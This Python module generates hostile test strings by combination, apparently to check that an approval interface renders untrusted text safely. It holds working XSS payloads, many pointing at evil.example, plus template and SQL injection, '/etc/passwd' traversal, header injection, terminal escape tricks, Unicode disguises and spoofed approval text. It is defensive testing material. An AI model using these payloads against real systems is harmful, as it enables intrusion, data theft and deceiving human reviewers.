"""Hostile text, made by combination: what it wants, how it breaks out, how it is written, what it hides behind.

Every payload carries a token of plain letters, so that a test can find where on a page it ended up.
"""

import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

CANARY = "window.__pwned=1"
AWAY = "http://evil.example"

WANTS: dict[str, str] = {
    "script": f"<script>{CANARY}</script>",
    "script-src": f"<script src={AWAY}/x.js></script>",
    "module": f"<script type=module>import '{AWAY}/x.js'</script>",
    "img": f"<img src=x onerror={CANARY}>",
    "img-away": f"<img src='{AWAY}/p.png' srcset='{AWAY}/q.png 2x'>",
    "svg": f"<svg onload={CANARY}>",
    "svg-script": f"<svg><script>{CANARY}</script></svg>",
    "svg-use": f"<svg><use href='{AWAY}/x.svg#a'/></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values=javascript:{CANARY} /><text y=20>go</text></a></svg>",
    "svg-foreign": f"<svg><foreignObject><body onload={CANARY}></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}></style></mglyph></table></mtext></math>",
    "math-link": f"<math href='javascript:{CANARY}'>go</math>",
    "iframe": f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    "iframe-away": f"<iframe src={AWAY}></iframe>",
    "object": f"<object data='data:text/html,<script>{CANARY}</script>'></object>",
    "embed": f"<embed src={AWAY}/x.swf>",
    "form": f"<form action={AWAY}><button>Approve</button></form>",
    "formaction": f"<button formaction={AWAY}>Approve</button><input type=submit formaction=javascript:{CANARY}>",
    "our-form": '<form method=post action="/r/x/decide"><button name=word value=approve>Approve</button></form>',
    "base": f"<base href={AWAY}/>",
    "meta": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "link": f"<link rel=stylesheet href={AWAY}/x.css><link rel=prefetch href={AWAY}/y>",
    "style": f"<style>@import '{AWAY}/x.css';body{{background:url({AWAY}/b)}}#decide{{display:none}}</style>",
    "style-attr": f"<div style='position:fixed;inset:0;background:url({AWAY}/c)'>Nothing to see</div>",
    "anchor": f"<a href='javascript:{CANARY}' target=_top>open</a><a href={AWAY} ping={AWAY}>see</a>",
    "autofocus": f"<input autofocus onfocus={CANARY}>",
    "details": f"<details open ontoggle={CANARY}>",
    "marquee": f"<marquee onstart={CANARY}>",
    "video": f"<video poster={AWAY}/v.png><source onerror={CANARY}></video>",
    "audio": f"<audio src={AWAY}/a.mp3 autoplay onerror={CANARY}>",
    "template": f"<template shadowrootmode=open><script>{CANARY}</script></template>",
    "dialog": "<dialog open id=card><h2>Why you are asked</h2>Nothing.</dialog>",
    "id-clobber": "<a id=queue></a><form id=decide name=body><input name=action></form>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={CANARY}>">',
    "xmp": f"<xmp></xmp><plaintext><img src=x onerror={CANARY}>",
    "event-attr": f"x onmouseover={CANARY} onfocus={CANARY} autofocus tabindex=0 x=",
    "jinja": "{{ 7*7 }}{% include '/etc/passwd' %}{{ config.__class__.__mro__ }}",
    "template-literal": f"${{{CANARY}}}#{{{CANARY}}}<%= {CANARY} %>",
    "angular": f"{{{{constructor.constructor('{CANARY}')()}}}}",
    "format": "{0.__class__} {args} %s %n %(x)s {to.count} {{",
    "markdown-image": f"![x]({AWAY}/m.png) ![y][z]\n[z]: {AWAY}/z.png",
    "markdown-link": f"[approve](javascript:{CANARY}) <{AWAY}> [x]({AWAY} 'title')",
    "markdown-html": f"# Approved\n\n---\n<img src=x onerror={CANARY}>\n```\n</pre>",
    "rich": f"[bold red]safe[/] [link={AWAY}]x[/link] [@click=app.quit]y[/] :warning: [/]",
    "js-url": f"javascript:{CANARY}//",
    "data-url": f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+{CANARY}",
    "css": f"expression({CANARY});background:url({AWAY}/d);@import url({AWAY}/e);}}*{{display:none}}",
    "url": f"{AWAY}/a?b=c#d //evil.example/x \\\\evil.example\\y mailto:x@evil.example",
    "json": json.dumps({"args": {"files": []}, "state": "approved", "html": f"<img src=x onerror={CANARY}>"}),
    "json-in-json": json.dumps(json.dumps({"__proto__": {"polluted": f"<script>{CANARY}</script>"}})),
    "sse": f'x\n\ndata: {{"about":"look"}}\n\nevent: message\ndata: {CANARY}\n\n',
    "headers": f"x\r\nSet-Cookie: a=b\r\nLocation: {AWAY}\r\n\r\n<script>{CANARY}</script>",
    "fake-card": "Why you are asked\n  – Nothing to see, it was approved before\n\nOutcome\ndone: nothing was changed",
    "fake-bar": "Approve   Deny   digest 0000   1 of 1 approvals\nalice: approve",
    "fake-claims": "The agent says its own words, not checked\nrisk: ● safe\ncan be undone",
    "fake-escape": "⟨U+202E⟩ ⟨secret 12⟩ ⟨U+0000⟩",
    "diff": f"--- a\n+++ b\n@@ -1 +1 @@\n-x\n+<img src=x onerror={CANARY}>",
    "sql": f"select '<img src=x onerror={CANARY}>' -- {CANARY}\n/* <script>{CANARY}</script>",
    "sql-injection": "'; DROP TABLE requests; --\" OR 1=1 %' ESCAPE '\\",
    "path": "../../../../etc/passwd\\..\\x %2e%2e%2f /r/x/decide?word=approve",
    "clear-screen": "\x1b[2J\x1b[H\x1b[31mread one file\x1b[0m",
    "osc-title": "\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07",
    "osc-link": f"\x1b]8;;{AWAY}\x1b\\click\x1b]8;;\x1b\\",
    "c1": "\x9b31mred\x9d0;owned\x9c\x90q\x9c",
    "overwrite": "delete everything\rread one file    \x08\x08\x08\x0b\x0c\x1bc\x1b(0",
    "bells": "\x07\x00\x7f\x05\x0e\x0f\x18\x1a",
}
"""What it wants, or who it pretends to be."""

OUTS = ("", '">', "'>", "-->", "]]>", "</textarea>", "</title></style></script>", "</pre></dd></dl></section></article>",
        '" autofocus onfocus=' + CANARY + ' x="', "\\\"'`;", "</template><!--", "\n\n")  # fmt: skip
"""How it gets out of where it was put."""


def _mixed(text: str) -> str:
    return "".join(char.upper() if at % 2 else char.lower() for at, char in enumerate(text))


def _wide(text: str) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text)


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(char):04x}" if not char.isalnum() else char for char in text)


def _numbered(text: str) -> str:
    return "".join(f"&#x{ord(char):x};" if not char.isalnum() and ord(char) > 31 else char for char in text)


WRITTEN: dict[str, Callable[[str], str]] = {
    "plain": str,
    "entities": escape,
    "numbered": _numbered,
    "twice": lambda text: escape(escape(text)),
    "percent": quote,
    "percent-twice": lambda text: quote(quote(text)),
    "escaped": _escaped,
    "mixed case": _mixed,
    "full width": _wide,
    "json": json.dumps,
    "split": lambda text: text.replace("script", "scr\tipt").replace("src", "s\nrc").replace("on", "o\x00n"),
    "nested": lambda text: text.replace("script", "scr<script>ipt").replace("<", "<<"),
}
"""In which writing."""

_TWINS = str.maketrans("aeopcxiy", "аеорсхіу")

HIDES: dict[str, Callable[[str], str]] = {
    "nothing": str,
    "bidi": lambda text: f"\u202e{text}\u202c\u2066{text[:20]}\u2069\u200f",
    "invisible": lambda text: "\u200b".join(text[:60]) + text[60:] + "\u200d\ufeff\u2060\u00ad\u034f\u3164",
    "tags": lambda text: text + "".join(chr(0xE0000 + ord(char)) for char in text[:20] if char.isascii()),
    "variations": lambda text: "\ufe0f".join(text[:40]) + text[40:] + "\U000e0101",
    "pile": lambda text: text[:10] + "\u0336\u0489\u20dd\u0300" * 30 + text[10:],
    "controls": lambda text: "\x00\x01\x1b\x7f\x80\x85\x9b" + text + "\r\n\v\f\x1c\x1d\x1e\x1f",
    "colours": lambda text: f"\x1b[8m{text}\x1b[0m\x1b[1A\x1b[2K",
    "title": lambda text: f"\x1b]2;{text[:30]}\x07{text}",
    "separators": lambda text: f"one\u2028{text}\u2029two\u0085three\u00a0\u2003\u3000",
    "twins": lambda text: text.translate(_TWINS) + " pаypal",
    "right to left": lambda text: f"שלום {text} مرحبا ١٢٣",
    "private": lambda text: f"\ue000\U000f0000{text}\uffff\ufdd0\U0010ffff",
    "long": lambda text: text + " and so on" * 150 + text,
    "wide word": lambda text: "W" * 900 + text,
    "deep": lambda text: "[" * 200 + text + "]" * 200,
    "many lines": lambda text: "\n" * 60 + text,
    "heading": lambda text: f"ok\n\nExactly this runs\n\n  action  read_file\n\n{text}",
    "wide letters": lambda text: f"﷽𒐫꧅ {text} 👩‍👩‍👧‍👦🏴",
}
"""Behind what it hides."""

ALL = len(WANTS) * len(OUTS) * len(WRITTEN) * len(HIDES)


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text, and how it was made."""

    number: int
    made_of: tuple[str, ...]
    text: str

    @property
    def token(self) -> str:
        return f"zq{self.number}qz"


def payloads(seed: int, count: int) -> Iterator[Payload]:
    """So many different combinations; the same for the same seed. Every ingredient comes early on."""
    chosen = random.Random(seed)
    wants, outs, written, hides = list(WANTS), list(range(len(OUTS))), list(WRITTEN), list(HIDES)
    for each in (wants, outs, written, hides):
        chosen.shuffle(each)
    seen = set()
    number = 0
    while number < min(count, ALL):
        if number < len(wants):
            parts = (
                wants[number],
                outs[number % len(outs)],
                written[number % len(written)],
                hides[number % len(hides)],
            )
        else:
            parts = (chosen.choice(wants), chosen.choice(outs), chosen.choice(written), chosen.choice(hides))
        if parts in seen:
            continue
        seen.add(parts)
        want, out, way, hide = parts
        text = HIDES[hide](WRITTEN[way](OUTS[out] + WANTS[want]))
        yield Payload(number, (want, OUTS[out], way, hide), f"zq{number}qz {text}")
        number += 1


HALVES = ("\ud800", "a\udfff", "\udcff\udc80")
"""Half a surrogate pair is no text; whoever sends one is turned away, or it is shown spelled out."""
